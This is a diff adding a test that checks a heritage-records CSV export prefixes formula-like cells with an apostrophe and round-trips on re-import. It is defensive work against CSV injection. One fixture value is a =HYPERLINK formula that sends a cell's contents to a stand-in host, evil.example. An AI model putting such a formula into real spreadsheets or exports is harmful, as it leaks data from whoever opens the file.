@@ -133,6 +133,39 @@ def test_csv_has_a_column_per_language_and_one_for_values_without(
     ]
 
 
+def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
+    heritage_runtime: Runtime, editor: Identity, tmp_path: Path
+) -> None:
+    records = RecordService(heritage_runtime)
+    original = Record(
+        identifier="-f-1",
+        title=[Value.text('=HYPERLINK("http://evil.example/?"&A1,"Click")')],
+        description=[Value.text("+31 20 123 4567"), Value.text("@SUM(1+1)")],
+        date=[Value.text("-0500")],
+        subject=[Value.text("mills - wind")],
+        alternative=[Value.text("'quoted' = fine")],
+    )
+    records.create(editor, "alpha", original)
+    exported = text_of(
+        ExportService(heritage_runtime).export_csv(editor, "alpha", Selection(q="f-1"))
+    )
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["identifier"] == "'-f-1"
+    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row["description"] == "'+31 20 123 4567 | @SUM(1+1)"
+    assert row["date"] == "'-0500"
+    # values that cannot start a formula are written as they are
+    assert row["subject"] == "mills - wind"
+    assert row["dcterms:alternative"] == "'quoted' = fine"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+
+    path = tmp_path / "export.csv"
+    path.write_text(exported, encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(exported)))
+    imported = [item.record for item in read_csv(path, reimport_mapping(rows[0], rows[1:]))]
+    assert imported == [original]
+
+
 def test_jsonld_expands_with_pyld_and_parses_with_rdflib(
     heritage_runtime: Runtime, editor: Identity
 ) -> None:
